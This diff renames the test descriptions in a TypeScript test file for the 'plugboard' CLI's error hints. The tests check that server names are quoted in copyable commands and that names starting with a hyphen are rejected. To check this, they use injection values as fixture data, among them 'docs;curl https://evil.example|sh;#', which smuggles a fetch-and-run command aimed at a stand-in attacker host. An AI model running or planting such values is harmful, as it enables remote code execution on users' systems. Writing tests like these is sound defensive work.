@@ -6,8 +6,8 @@ import { plainHttp } from "../servers/http-fixture.ts";
 
 const codes = Object.keys(errorTable) as ErrorCode[];
 
-describe("what a person is told to do next", () => {
-  it("names the server whose credentials were refused", async () => {
+describe("hints", () => {
+  it("name the server whose credentials were rejected", async () => {
     const { origin: url } = await plainHttp((_request, response) => void response.writeHead(401).end());
     const headers = { Authorization: "Bearer outdated" };
     const box = createSandbox({
@@ -18,7 +18,7 @@ describe("what a person is told to do next", () => {
     expect(err).toContain("log in again with `plugboard login issues`.");
   });
 
-  it("names the server that the policy refuses", async () => {
+  it("name the server that the policy denies", async () => {
     const box = createSandbox({
       "home/.config/plugboard/config.json": { mcpServers: { files: { command: "true" } } },
       "managed/managed.json": { deniedMcpServers: [{ serverName: "files" }] },
@@ -26,13 +26,13 @@ describe("what a person is told to do next", () => {
     expect((await box.cli(["get", "files"])).out).toContain("`plugboard explain files` shows the rule.");
   });
 
-  it("is a command that can be copied as it is, whatever a project calls its servers", () => {
+  it("contain a command that can be copied, whatever a project calls its servers", () => {
     const about = { server: "issues; true", tool: "mcp__issues__add" };
     const hints = codes.map((code) => new PlugboardError(code, "", about).hint);
     expect(hints.filter((hint) => /<server>|<tool>|[^']issues; true/.test(hint))).toEqual([]);
   });
 
-  it("quotes the name of a project's server that is not trusted or switched off", async () => {
+  it("quote the name of an untrusted or disabled server", async () => {
     const name = "docs;curl https://evil.example|sh;#";
     const box = createSandbox({
       "project/.mcp.json": { mcpServers: { [name]: { command: "true" } } },
@@ -44,7 +44,7 @@ describe("what a person is told to do next", () => {
     expect((await box.cli(["get", "off; true"])).out).toContain("`plugboard enable 'off; true'`");
   });
 
-  it("cannot be turned into an option by a project's server", async () => {
+  it("do not let a server's name become an option", async () => {
     const box = createSandbox({ "project/.mcp.json": { mcpServers: { "--yes": { command: "true" } } } });
     const { out, err } = await box.cli(["list"]);
     expect(out + err).toContain("must not start with a hyphen");
